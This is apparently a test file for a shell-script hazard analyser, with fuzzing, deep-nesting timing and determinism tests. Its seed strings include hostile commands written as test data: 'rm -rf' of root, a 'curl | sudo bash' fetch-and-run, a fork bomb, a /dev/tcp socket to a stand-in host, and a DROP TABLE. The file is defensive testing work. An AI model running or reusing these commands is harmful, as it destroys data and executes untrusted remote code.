import assert from 'node:assert/strict';
import { test } from 'node:test';
import { processorTime } from '../../processor-time.ts';
import { seen } from './seen.ts';

/** A generator that is the same everywhere (Lehmer, Park and Miller 1988). */
function randoms(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 48_271) % 2_147_483_647;
    return state / 2_147_483_647;
  };
}

const seeds = [
  'rm -rf "$X"/ && curl https://a.example | sudo bash',
  'f() { f | f & }; f; cat <<EOF | python3 -\nprint("$(id)")\nEOF\n',
  'x=(a b); for i in "${x[@]}"; do case $i in a*) eval "$i" ;; esac; done > /dev/null 2>&1',
  'while [ 1 ]; do echo $((1+2)) ${x:-y} ${z##*/} `id` $(id) {a,b}{1..3}; done',
  "psql -c 'DROP TABLE x'; $'\\x72m' ~/*; exec 5<>/dev/tcp/192.0.2.1/99",
];

/** Deep enough to overflow what recurses, short enough for every run of the tests. */
const many = 100_000;

test('no text makes the reader throw', async () => {
  const random = randoms(7);
  const alphabet = ' \n\t"\'`$(){}[]<>|&;\\#!*?~=-+@%^:,./0aEOFrmshcd⌂\0é\ud800';
  for (let round = 0; round < 400; round += 1) {
    const seed = seeds[round % seeds.length]!;
    let text = seed.slice(0, Math.floor(random() * seed.length));
    for (let i = 0; i < random() * 30; i += 1) {
      const at = Math.floor(random() * text.length);
      text =
        text.slice(0, at) +
        alphabet[Math.floor(random() * alphabet.length)] +
        text.slice(at + (random() < 0.5 ? 0 : 1));
    }
    await seen(text);
  }
});

test('a script cut anywhere is read', async () => {
  for (const seed of seeds) for (let at = 0; at <= seed.length; at += 3) await seen(seed.slice(0, at));
});

const nested: readonly (readonly [string, (n: number) => string])[] = [
  ['parentheses', (n) => '('.repeat(n)],
  ['substitutions', (n) => '$('.repeat(n)],
  ['quoted substitutions', (n) => '"$('.repeat(n)],
  ['backquotes', (n) => '`'.repeat(n)],
  ['braces', (n) => '{ '.repeat(n)],
  ['brace expansions', (n) => `echo ${'{a,'.repeat(n)}`],
  ['products of braces', (n) => `echo ${'{a,b}'.repeat(n)}`],
  ['defaults', (n) => `echo ${'${a:-'.repeat(n)}`],
  ['arithmetic', (n) => 'echo $(('.repeat(n)],
  ['conditions', (n) => 'if '.repeat(n)],
  ['loops', (n) => 'while true; do '.repeat(n)],
  ['cases', (n) => 'case x in x) '.repeat(n)],
  ['functions', (n) => 'f() { '.repeat(n)],
  [
    'functions that call the next one',
    (n) => `${Array.from({ length: n / 4 }, (_, at) => `f${at}() { f${at + 1}; }\n`).join('')}f0`,
  ],
  [
    'calls of a chain of functions',
    (n) =>
      Array.from({ length: n / 4 }, (_, at) => `f${n - at}() { f${n + 1 - at}; }\nf${n - at}\n`).join(''),
  ],
  ['calls of a long function', (n) => `f() { echo ${'$a $b '.repeat(n / 20)}; }\n${'f\n'.repeat(n / 20)}`],
  ['pipelines', (n) => 'a|'.repeat(n)],
  ['lists', (n) => 'a&&'.repeat(n)],
  ['commands', (n) => 'rm x;'.repeat(n)],
  ['words', (n) => `rm ${'x '.repeat(n)}`],
  ['assignments', (n) => 'x=$x$x;'.repeat(n)],
  ['evals', (n) => `${'eval '.repeat(n)}ls`],
  ['wrappers', (n) => `${'sudo '.repeat(n)}ls`],
  ['shells', (n) => 'sh -c "'.repeat(n)],
  ['heredocs', (n) => 'cat <<A '.repeat(n)],
  ['quotes', (n) => '"'.repeat(n)],
  ['backslashes', (n) => '\\'.repeat(n)],
  ['tests', (n) => '[[ ( '.repeat(n)],
  ['substitutions that read', (n) => 'a > >(sh) '.repeat(n / 10)],
  ['quotes of awk', (n) => `awk '${'\\"'.repeat(n)}'`],
  ['places of xargs', (n) => `printf 'a\\nb\\n' | ${'xargs -I% '.repeat(n / 1_000)}echo %`],
  ['places of parallel', (n) => `parallel '${'{}'.repeat(n)}' ::: ${'a'.repeat(n)}`],
  ['nul bytes', (n) => '\0'.repeat(n)],
  ['patterns', (n) => `x=${'a'.repeat(n)}; echo \${x##${'*a'.repeat(20)}b}`],
];

for (const [name, build] of nested) {
  test(`many ${name} are read, or told as not understood, in time`, async () => {
    const started = processorTime();
    await seen(build(many));
    // Generous, for a busy machine; quadratic work would take minutes.
    assert.ok(processorTime() - started < 20_000);
  });
}

test('a function that calls others many times over is followed within a budget', async () => {
  const lines = ['f0() { rm -rf /; }'];
  for (let i = 1; i < 40; i += 1) lines.push(`f${i}() { f${i - 1} a$1; f${i - 1} b$1; }`);
  const { facts } = await seen(`${lines.join('\n')}\nf39 x`);
  const told = facts.some((fact) => fact.kind === 'anomaly' && fact.code === 'over-budget');
  const found = facts.some((fact) => fact.kind === 'hazard' && fact.hazard === 'shell-deletes-everything');
  assert.ok(told || found);
});

test('the same text gives the same facts', async () => {
  for (const seed of seeds) assert.deepEqual(await seen(seed), await seen(seed));
});
